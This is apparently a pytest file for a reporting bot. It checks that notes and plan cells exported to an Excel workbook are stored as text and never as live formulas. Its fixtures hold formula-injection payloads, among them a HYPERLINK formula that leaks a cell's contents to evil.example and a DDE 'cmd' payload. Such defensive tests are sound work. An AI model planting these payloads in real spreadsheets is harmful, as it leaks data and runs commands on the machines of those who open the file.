"""Issue 12, item 2: text from a user or a plan lands in the workbook as text, never as a formula.

A note like `=HYPERLINK("http://evil.example/?leak="&D2,…)` would otherwise be a live formula in
the lead's Excel, able to send other cells to anyone; `#N/A` would become an error value.
"""
from __future__ import annotations

from datetime import date
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlmodel import Session

from bot.agencies import sync_registry
from bot.service.reports.workbook import xlsx_bytes
from bot.store.status import record_status
from bot.service.reports.summary import summarize
from bot.store import session_scope
from tests.service.test_import import REGISTRY
from tests.service.test_summary import KHCN, TZ, VH, at, build_plan, share

pytestmark = pytest.mark.store

NOTE = '=HYPERLINK("http://evil.example/?leak="&D2,"Chi tiết")'
# TT, content, lead, deadline as written, kind, due: every cell a plan can start with = + - @
ROWS = [
    ("1", "=1+1", KHCN, "+84 Tháng 4/2025", "date", date(2025, 4, 30)),
    ("2", "+cmd|' /C calc'!A0", VH, "Tháng 4/2025", "date", date(2025, 4, 20)),
    ("3", "-2+3", KHCN, "Tháng 5/2025", "date", date(2025, 5, 31)),
    ("4", "@SUM(1,2)", VH, "Tháng 5/2025", "date", date(2025, 5, 31)),
]
NOTES = {"DEMO-1": NOTE, "DEMO-2": "#N/A", "DEMO-3": "-1", "DEMO-4": "@evil"}
OWNER = {"DEMO-1": KHCN, "DEMO-2": VH, "DEMO-3": KHCN, "DEMO-4": VH}


@pytest.fixture
def workbook(engine):
    with session_scope(engine) as s:
        sync_registry(s, REGISTRY)
        build_plan(s, ROWS)
        for code, note in NOTES.items():  # overdue by June 30, so on both sheets
            record_status(s, share(s, code, OWNER[code]), status="in_progress", at=at(2025, 4, 1), note=note)
    with Session(engine) as s:
        return load_workbook(BytesIO(xlsx_bytes(summarize(s, date(2025, 6, 30), TZ))))


def _text_cells(ws):
    return [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.mark.parametrize("sheet,content_col,note_col", [("Chi tiết", 4, 14), ("Quá hạn", 4, 11)])
def test_notes_and_plan_cells_are_text_not_formulas(workbook, sheet, content_col, note_col):
    ws = workbook[sheet]
    rows = {r[1].value: r for r in ws.iter_rows(min_row=2) if r[4].value in (KHCN, VH)}
    assert set(NOTES) <= set(rows), list(rows)
    for code, note in NOTES.items():
        cell = rows[code][note_col - 1]
        assert (cell.data_type, cell.value) == ("s", note), (sheet, code)
    for no, content, *_ in ROWS:
        cell = rows[f"DEMO-{no}"][content_col - 1]
        assert (cell.data_type, cell.value) == ("s", content), (sheet, no)


def test_no_formula_anywhere_in_the_workbook(workbook):
    for ws in workbook:
        assert all(c.data_type == "s" for c in _text_cells(ws)), ws.title
        assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type in ("f", "e")], ws.title
